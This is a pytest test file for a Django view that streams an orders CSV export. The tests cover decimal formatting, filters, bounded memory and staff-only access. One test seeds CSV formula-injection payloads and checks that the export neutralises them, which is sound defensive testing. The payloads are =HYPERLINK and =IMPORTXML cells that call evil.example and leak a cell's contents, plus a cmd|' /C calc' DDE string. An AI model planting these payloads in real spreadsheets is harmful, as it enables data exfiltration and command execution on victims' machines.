import csv
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from orders.models import LocalState, Order, Status
from orders.upstream import OrderState
from tests.factories import make_order, make_provider, make_service
from tests.money.booked import booked_order, poll_with, status

pytestmark = pytest.mark.django_db
URL = "/orders/export.csv"


def table(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_is_a_streamed_csv_download(staff_client):
    make_order(make_service())
    response = staff_client.get(URL)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')


def test_each_row_carries_the_order_with_money_as_plain_decimals(staff_client, operator):
    service = make_service(make_provider(name="Panel One"), upstream_id=4242, name="IG Likes")
    order = make_order(
        service,
        link="https://instagram.com/p/x,y",  # a comma, quoted by the writer
        quantity=1000,
        remains=250,
        start_count=12,
        status=Status.IN_PROGRESS,
        status_raw="In progress",
        upstream_id=98765,
        currency="USD",
        charge=Decimal("0.00001"),
        cost=Decimal("1E+1"),
        price=Decimal("13.00000000"),
        placed_by=operator,
    )
    [row] = table(staff_client.get(URL))
    assert row == {
        "id": str(order.pk),
        "created_at": row["created_at"],
        "provider": "Panel One",
        "service_id": "4242",
        "service": "IG Likes",
        "type": "Default",
        "link": "https://instagram.com/p/x,y",
        "quantity": "1000",
        "delivered": "750",
        "start_count": "12",
        "remains": "250",
        "state": "placed",
        "status": "in_progress",
        "status_raw": "In progress",
        "upstream_id": "98765",
        "charge": "0.00001",
        "currency": "USD",
        "cost": "10.00",
        "price": "13.00",
        "settled": "",
        "placed_by": "operator",
    }
    assert row["created_at"].startswith(str(order.created_at.date()))


def test_unknown_values_are_empty_not_none(staff_client):
    make_order(make_service(), state=LocalState.QUEUED, upstream_id=None, quantity=None)
    [row] = table(staff_client.get(URL))
    assert (row["upstream_id"], row["charge"], row["delivered"], row["placed_by"]) == (
        "",
        "",
        "",
        "",
    )


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(staff_client):
    provider = make_provider(name="@SUM(1+1)")
    service = make_service(provider, name='=HYPERLINK("https://evil.example","Click")')
    make_order(
        service,
        link='=IMPORTXML("https://evil.example/?"&A1,"//a")',
        status_raw="+1 pending",
        quantity=100,
        remains=-5,  # over-delivered: a real number, kept as one
        status=Status.COMPLETED,
        charge=Decimal("-0.50"),
    )
    [row] = table(staff_client.get(URL))
    assert row["service"] == '\'=HYPERLINK("https://evil.example","Click")'
    assert row["link"] == '\'=IMPORTXML("https://evil.example/?"&A1,"//a")'
    assert row["provider"] == "'@SUM(1+1)"
    assert row["status_raw"] == "'+1 pending"
    assert (row["remains"], row["charge"]) == ("-5", "-0.50")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(staff_client, start):
    make_order(make_service(name=f"{start}cmd|' /C calc'!A0"))
    [row] = table(staff_client.get(URL))
    assert row["service"] == f"'{start}cmd|' /C calc'!A0"


def test_the_export_applies_the_lists_filters_and_sort(staff_client):
    service = make_service()
    cheap = make_order(service, status=Status.COMPLETED, charge=Decimal("1"))
    dear = make_order(service, status=Status.COMPLETED, charge=Decimal("9"))
    make_order(service, status=Status.PENDING)
    rows = table(staff_client.get(URL, {"status": "completed", "sort": "charge"}))
    assert [r["id"] for r in rows] == [str(cheap.pk), str(dear.pk)]


def add_orders(service, n: int, start: int) -> None:
    Order.objects.bulk_create(
        Order(
            provider=service.provider,
            service=service,
            order_type="Default",
            link=f"https://instagram.com/p/{i}",
            quantity=100,
            upstream_id=10_000 + i,
            state=LocalState.PLACED,
            charge=Decimal("0.09"),
            currency="USD",
        )
        for i in range(start, start + n)
    )


def streamed(response) -> tuple[bytes, int]:
    """The whole body, and the most memory held at once while it was produced."""
    tracemalloc.start()
    try:
        body = b"".join(response.streaming_content)
        return body, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_thousands_of_orders_are_all_written_in_bounded_memory(staff_client):
    service = make_service()
    add_orders(service, 4200, 0)
    _, small_peak = streamed(staff_client.get(URL))
    add_orders(service, 4200, 4200)
    response = staff_client.get(URL)
    with CaptureQueriesContext(connection) as queries:
        body, big_peak = streamed(response)
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(rows) == len({r["id"] for r in rows}) == 8400
    assert {r["charge"] for r in rows} == {"0.09"}
    # Read 2,000 at a time: twice the rows must not take twice the memory.
    assert big_peak < small_peak * 1.5, (small_peak, big_peak)
    assert len(queries) <= 4  # one query read in chunks (or one per chunk where unsupported)


def test_the_export_needs_a_signed_in_staff_member(client):
    assert client.get(URL).status_code == 302


def test_a_settled_order_is_exported_at_its_settled_figures_with_the_date(staff_client):
    order = booked_order()
    poll_with({order: status(OrderState.PARTIAL, remains=47_321, charge="6.43")})
    running = booked_order(service=order.service)
    rows = {row["id"]: row for row in table(staff_client.get(URL))}
    done = rows[str(order.pk)]
    assert (done["cost"], done["price"], done["currency"]) == ("6.43", "8.35848", "USD")
    assert done["settled"] == timezone.localtime(order.settled_at).isoformat()
    assert (rows[str(running.pk)]["cost"], rows[str(running.pk)]["settled"]) == ("120.00", "")
